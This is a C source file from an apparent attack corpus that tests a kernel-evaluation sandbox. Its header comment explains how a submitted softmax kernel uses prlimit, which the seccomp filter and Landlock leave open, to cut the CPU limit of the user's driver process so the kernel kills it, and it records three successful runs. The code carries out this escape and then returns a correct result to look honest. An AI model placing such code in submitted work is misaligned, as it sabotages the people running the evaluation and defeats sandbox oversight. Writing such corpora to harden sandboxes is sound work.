/* Attack corpus: kills the USER's process from inside the runner, without a signal. prlimit64 is not in
 * the seccomp filter, Landlock does not scope it, and the runner runs as the user (as root here also
 * with CAP_SYS_RESOURCE), so it may set another process's resource limits by pid. The runner finds the
 * judge (getppid()) and, by getpgid/getsid on lower pids (no /proc needed), the processes of the judge's
 * process group and session started before it: the user's process (and the shell that started it).
 * It lowers their RLIMIT_CPU to 1 s (soft and hard): the kernel then sends the user's process SIGKILL at
 * its next tick (it has used more than 1 s of CPU importing torch). Then it computes an honest softmax.
 * What it gains: the user's process dies (a search and its store writes end), though the sandbox says
 * "signals to other processes are refused" and "the user's process survives" (attack_kill_parent).
 * Variants of the same hole: RLIMIT_NOFILE/RLIMIT_AS of the judge or the user (every later evaluation
 * or the user's next allocation fails), RLIMIT_CORE/FSIZE.
 * RESULT (review 3): WIN 3 of 3: the user's process (the driver calling Evaluator.evaluate) died of
 * SIGKILL (exit 137) each time, during or just after the evaluation; control (softmax_rows only): exit 0.
 * The verdict itself was SLOWER (honest softmax). Not in the parametrized list: it kills pytest.
 */
#define _GNU_SOURCE
#include "kforge.h"
#include <math.h>
#include <unistd.h>
#include <sys/resource.h>

static int done = 0;

KF_ENTRY int kf_launch(const kf_tensor* in, int n_in, const kf_tensor* out, int n_out,
                       const double* params, int n_params, void* workspace, void* stream) {
    if (!done) {
        done = 1;
        pid_t pp = getppid(), pg = getpgid(pp), sid = getsid(pp);
        struct rlimit one = {1, 1};
        for (pid_t t = pp - 1; t > 1 && t > pp - 4096; --t)
            if (getpgid(t) == pg && getsid(t) == sid) prlimit(t, RLIMIT_CPU, &one, NULL);
    }
    const float* x = (const float*)in[0].data; float* y = (float*)out[0].data;
    int64_t cols = in[0].sizes[in[0].ndim - 1], rows = 1;
    for (int d = 0; d < in[0].ndim - 1; ++d) rows *= in[0].sizes[d];
    for (int64_t r = 0; r < rows; ++r) {
        const float* xr = x + r * cols; float* yr = y + r * cols;
        float m = KF_NEG_INF, s = 0.f;
        for (int64_t c = 0; c < cols; ++c) m = xr[c] > m ? xr[c] : m;
        for (int64_t c = 0; c < cols; ++c) { yr[c] = expf(xr[c] - m); s += yr[c]; }
        for (int64_t c = 0; c < cols; ++c) yr[c] /= s;
    }
    return 0;
}
